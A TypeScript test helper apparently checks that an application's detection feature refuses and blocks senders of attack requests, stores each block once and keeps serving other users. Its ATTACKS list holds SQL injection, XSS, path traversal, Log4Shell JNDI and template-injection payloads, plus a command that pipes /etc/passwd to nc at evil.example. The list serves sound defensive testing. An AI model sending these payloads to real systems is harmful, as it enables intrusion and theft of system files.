import assert from 'node:assert/strict';
import { setTimeout as pause } from 'node:timers/promises';
import type { ConfigInput } from '../../src/app/index.ts';
import { call, signIn } from './call.ts';
import { writeConfig } from './gateway-victim.ts';
import type { Place } from './places.ts';
import type { Victim } from './start-victim.ts';

/** Attacks that differ from each other: so many of one sender block that sender. */
export const ATTACKS: readonly string[] = [
  "1' union select password from users--",
  '<script>alert(document.cookie)</script>',
  '../../../../etc/passwd',
  '; cat /etc/passwd | nc evil.example 1',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the attack
  '${jndi:ldap://evil.example/a}',
  "{{''.__class__.__mro__[1].__subclasses__()}}",
  "x' or '1'='1' -- ",
].map((attack) => `q=${encodeURIComponent(attack)}`);

/** The longest that an attack may wait for its refusal while the database is away. */
const ANSWER_MS = 3_000;
/** Its rounds of storing what waits begin at a second apart, and grow to half a minute. */
const STORED_MS = 20_000;

const config: ConfigInput = { trustedProxies: ['127.0.0.1'], detection: { inspection: { mode: 'block' } } };

/** What a victim is to be started with, so that each request names an address of its own. */
export const detecting = (place: Place): Readonly<Record<string, string>> => ({
  TWINKEEP_CONFIG: writeConfig(place, config),
});

/** @returns the stable code that somebody of that address is refused with */
export async function refusalOf(address: string, path: string, from: string): Promise<string> {
  const begun = performance.now();
  const response = await fetch(address + path, { headers: { 'x-forwarded-for': from } });
  const { code } = Object(await response.json());
  const took = performance.now() - begun;
  assert.ok(took < ANSWER_MS, `${path} was answered after ${took} ms`);
  return `${response.status} ${code}`;
}

/** Attacks from each address until it is blocked, whatever the database does. */
export async function attackFrom(victim: Victim, froms: readonly string[]): Promise<void> {
  await Promise.all(
    froms.map(async (from) => {
      for (const attack of ATTACKS) {
        const refusal = await refusalOf(victim.address, `/v1/me?${attack}`, from);
        assert.match(refusal, /^403 DETECTION_(REFUSED|BLOCKED)$/, `${attack} of ${from}`);
      }
    }),
  );
  await assertBlocked(victim, froms);
}

export async function assertBlocked({ address }: Victim, froms: readonly string[]): Promise<void> {
  for (const from of froms) assert.equal(await refusalOf(address, '/v1/me', from), '403 DETECTION_BLOCKED', from);
}

/** @returns how long it took until all of them were stored, each once and with its entry in the log */
export async function untilStored({ query }: Place, froms: readonly string[]): Promise<number> {
  const begun = performance.now();
  const list = froms.map((from) => `'${from}'`).join();
  const stored = () => query(`select id from block where value in (${list})`);
  let rows = await stored();
  for (; rows.length < froms.length; rows = await stored()) {
    assert.ok(performance.now() - begun < STORED_MS, `${rows.length} of ${froms.length} are stored`);
    await pause(50);
  }
  assert.equal(rows.length, froms.length, 'a block was stored twice');
  const took = Math.round(performance.now() - begun);
  const entries = await query(`select body from audit_entry where action = 'detection.blocked'`);
  for (const { id } of rows) {
    const own = entries.filter(({ body }) => String(body).includes(String(id)));
    assert.equal(own.length, 1, `${own.length} entries of the block ${id}`);
  }
  return took;
}

/** Nobody else is kept out. */
export async function assertOthersServed({ address }: Victim): Promise<void> {
  const token = await signIn(address);
  assert.equal((await call(address, 'GET', '/v1/me', { token })).status, 200);
}
